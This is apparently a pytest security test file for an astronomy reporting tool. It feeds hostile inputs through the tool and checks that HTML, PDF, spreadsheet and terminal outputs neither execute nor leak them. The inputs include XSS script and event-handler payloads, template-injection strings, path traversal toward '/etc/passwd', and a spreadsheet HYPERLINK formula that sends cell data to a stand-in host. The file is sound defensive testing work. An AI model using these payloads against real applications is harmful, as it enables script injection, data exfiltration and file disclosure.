"""The whole report of a campaign that means harm: nothing leaves, nothing else is read, nothing
runs, and no output carries what a browser, a spreadsheet or a terminal would obey.

One run in a process of its own, without a network and with every opened file on a list.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pypdf
import pytest
from skytally.scaffold import write_campaign

CANARY = "canary-5f1c2e"
# Each of these is a telescope, with what it is meant to set off.
TELESCOPES = (
    '</script><script src="http://skytally.invalid/a.js"></script><img src=x onerror=alert(1)>',
    '<link rel=stylesheet href="file:///elsewhere.css"><a href="javascript:alert(1)">x</a>',
    "{{ 7*7 }}{% include '/etc/hostname' %}${7*7} $\\frac{1}{$ ]]> --> <!-- &lt;b&gt;",
    '=HYPERLINK("http://skytally.invalid/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0/../../../../etc/passwd",
)
STYLE = (
    "<style>@import url(file:///elsewhere.css);*{background:url(http://skytally.invalid/b)}</style>"
)
LINK = "\x1b]8;;http://skytally.invalid\x07click\x1b]8;;\x07"
BIDI = "\u202egnihton\u2066"


@dataclass(frozen=True)
class Night:
    """What the run left behind."""

    out: Path
    code: int
    stdout: str
    stderr: str
    events: list[tuple[str, str]]
    folder: Path


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _campaign(folder: Path) -> Path:
    """Write the campaign, and a file beside it that nobody names but the hostile files."""
    campaign = write_campaign(folder / "night")[0]
    canary = folder / "canary.json"
    canary.write_text(f'{{"0": [0], "{CANARY}": [1]}}')
    log = folder / "night/logs/hostile.csv"
    rows = [
        "exposure,ra,dec,start,duration,band,depth,region,quality",
        f'"{LINK}",150.1,-8.1,2031-03-14T19:42:10Z,60,"r{BIDI}",20.5,,=1+1',
        f'"<b onclick=alert(1)>{BIDI}",150.2,-8.2,2031-03-14T19:44:10Z,60,<marquee>g</marquee>,'
        "20.5,,",
        f"a,150.3,-8.3,2031-03-14T19:45:10Z,60,r,20.5,{canary},",
        "b,150.3,-8.3,2031-03-14T19:46:10Z,60,r,20.5,../../canary.json,",
        "c,150.3,-8.3,2031-03-14T19:47:10Z,60,r,20.5,file:///etc/moc.json,",
        "d,150.3,-8.3,2031-03-14T19:48:10Z,60,r,20.5,link.json,",
    ]
    log.write_text("\n".join(rows) + "\n")
    (log.parent / "link.json").symlink_to(canary)
    (folder / "night/logs/linked.vot").write_text(
        '<?xml version="1.0"?><VOTABLE version="1.4"><RESOURCE><TABLE><FIELD name="ra" '
        f'datatype="double"/><DATA><BINARY><STREAM href="{canary.as_uri()}"/></BINARY></DATA>'
        "</TABLE></RESOURCE></VOTABLE>"
    )
    text = campaign.read_text()
    text = text[: text.index("# A log that uses our column names")]
    text = text.replace('name = "Lantern 7" ', f"name = {_quoted(STYLE)} ", 1)
    text = text.replace('version = "2 update"', f"version = {_quoted('=2+2 <b>update</b>')}")
    camera = 'camera = { shape = "circle", radius = 0.5 }'
    for name in TELESCOPES:
        name = _quoted(name)
        text += f'\n[[telescope]]\nname = {name}\n{camera}\nlog = "logs/hostile.csv"\n'
    text += f'\n[[telescope]]\nname = "linked"\n{camera}\nlog = "logs/linked.vot"\n'
    text += f"\n[report]\nauthors = [{_quoted(TELESCOPES[0])}]\nthanks = {_quoted(TELESCOPES[1])}\n"
    campaign.write_text(text)
    return campaign


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    folder = tmp_path_factory.mktemp("hostile")
    campaign = _campaign(folder)
    (folder / "hook").mkdir()
    shutil.copy(Path(__file__).parent / "audit_hook.py", folder / "hook/sitecustomize.py")
    log = folder / "events.txt"
    run = subprocess.run(
        [sys.executable, "-m", "skytally", "report", str(campaign), "--out", str(folder / "out")],
        env={
            **os.environ,
            "PYTHONPATH": str(folder / "hook"),
            "AUDIT_HOOK_LOG": str(log),
            "PYTHONIOENCODING": "utf-8",
        },
        capture_output=True,
        timeout=300,
        check=False,
    )
    events = [
        (event, name)
        for event, _, name in (
            line.partition("\t") for line in log.read_text("utf-8").split("\n") if line
        )
    ]
    return Night(
        folder / "out",
        run.returncode,
        run.stdout.decode(),
        run.stderr.decode(),
        events,
        folder,
    )


def test_the_report_is_made_and_says_what_was_left_out(night: Night) -> None:
    assert night.code == 1, night.stderr  # one log could not be read
    assert (night.out / "manifest.json").exists()
    assert "Traceback" not in night.stderr
    tally = json.loads((night.out / "tally.json").read_text("utf-8"))
    reasons = {x["exposure"]: x["detail"] for x in tally["set_aside"] if x["exposure"] in "abcd"}
    assert {"a", "b", "c", "d"} == set(reasons)
    assert all("outside the folders" in reasons[x] for x in "abd")
    assert "URL" in reasons["c"]
    faults = {log["telescope"]: log["fault"] for log in tally["logs"] if log.get("fault")}
    assert "another file or a URL" in faults["linked"]


def test_no_network_no_pickle_and_no_other_program(night: Night) -> None:
    kinds = {event for event, _ in night.events}
    assert kinds <= {"open", "subprocess.Popen"}
    started = {name for event, name in night.events if event == "subprocess.Popen"}
    # How Python finds a shared library (ctypes.util): by the loader's own tools.
    loaders = {"ldconfig", "gcc", "cc", "ld", "objdump", "which"}
    others = {name for name in started if Path(name).name not in loaders}
    assert {os.path.realpath(name) for name in others} == {os.path.realpath(sys.executable)}
    # The hook was there: the campaign itself is on the list.
    assert any(name.endswith("campaign.toml") for _, name in night.events)


def test_no_file_that_the_campaign_does_not_name(night: Night) -> None:
    opened = {name for event, name in night.events if event == "open"}
    assert not [name for name in opened if name.endswith(("canary.json", "/etc/hostname"))]
    assert not [name for name in opened if name.endswith(("link.json", "/etc/passwd"))]
    for path in night.out.rglob("*"):
        assert path.is_dir() or CANARY.encode() not in path.read_bytes()


class _Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def test_names_are_no_markup_in_the_page(night: Night) -> None:
    text = (night.out / "report.html").read_text("utf-8")
    page = _Tags(text)
    scripts = [attributes for tag, attributes in page.found if tag == "script"]
    assert all("src" not in attributes for attributes in scripts)
    for tag, attributes in page.found:
        assert tag not in {"link", "iframe", "object", "embed", "base", "marquee"}
        for key, value in attributes.items():
            assert not key.startswith("on"), (tag, key)
            if key in {"href", "src", "xlink:href", "action"}:
                assert str(value).startswith(("#", "data:image/png")), (tag, key, value)
            if key == "style" or value is None:
                continue
            assert "url(http" not in value or key in {"aria-label", "title", "alt", "data-label"}
    styles = re.findall(r"<style>(.*?)</style>", text, re.S)
    assert not [style for style in styles if "skytally.invalid" in style or "@import" in style]
    assert TELESCOPES[2] in page.words  # shown as it is written, not computed
    assert "\x1b" not in text
    assert not [c for c in text if unicodedata.bidirectional(c) in {"RLO", "LRO", "RLI", "LRI"}]


def test_drawings_hold_text_and_nothing_else(night: Night) -> None:
    text = (night.out / "report.html").read_text("utf-8")
    drawings = re.findall(r"<svg.*?</svg>", text, re.S)
    assert drawings
    for drawing in drawings:
        tags = {tag for tag, _ in _Tags(drawing).found}
        assert not tags & {"script", "foreignobject", "a", "iframe", "animate", "set", "b"}


def test_the_paper_form_links_nowhere_and_runs_nothing(night: Night) -> None:
    reader = pypdf.PdfReader(night.out / "report.pdf")
    root = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/JavaScript"} & set(root)
    assert "/JavaScript" not in root.get("/Names", {})
    for page in reader.pages:
        for annotation in page.get("/Annots", []):
            action = annotation.get_object().get("/A", {})
            assert action.get("/S") not in {"/URI", "/JavaScript", "/Launch", "/GoToR"}
    words = "".join(page.extract_text() for page in reader.pages)
    assert CANARY not in words
    assert not reader.attachments


def test_a_spreadsheet_computes_nothing(night: Night) -> None:
    lines = (night.out / "tally.ecsv").read_text("utf-8").split("\n")
    rows = list(csv.reader((x for x in lines if not x.startswith("#")), delimiter=" "))
    head = rows[0]
    text = [head.index(name) for name in ("map", "telescope", "band")]
    cells = {row[i] for row in rows[1:] if row for i in text}
    assert not [cell for cell in cells if cell[:1] in {*"=+-@", "\t", "\r"}]
    # Still there, behind the apostrophe that tells a spreadsheet that it is text.
    assert {f"'{name}" for name in TELESCOPES[3:]} <= cells


@pytest.mark.parametrize("name", ["stdout", "stderr"])
def test_nothing_steers_the_terminal(night: Night, name: str) -> None:
    text = getattr(night, name)
    assert [c for c in text if not (c.isprintable() or c in "\n\r\u00a0")] == []


def test_circulars_are_plain_text(night: Night) -> None:
    circulars = [night.out / "circular.txt", *(night.out / "circulars").iterdir()]
    assert len(circulars) > len(TELESCOPES)
    for path in circulars:
        text = path.read_bytes().decode("ascii")
        assert [c for c in text if not (c.isprintable() or c == "\n")] == []


def test_files_are_named_safely_and_stay_in_their_folder(night: Night) -> None:
    names = {path.relative_to(night.out).as_posix() for path in night.out.rglob("*")}
    assert all(re.fullmatch(r"[a-z0-9-]+(/[a-z0-9-]+)?(\.[a-z0-9.]+)?", name) for name in names)
    assert {x.name for x in night.folder.iterdir()} == {
        *("night", "canary.json", "hook", "events.txt", "out")
    }
    assert "sum-1-1-cmd-c-calc-a0-etc-passwd.fits" in {
        path.name for path in (night.out / "regions").iterdir()
    }
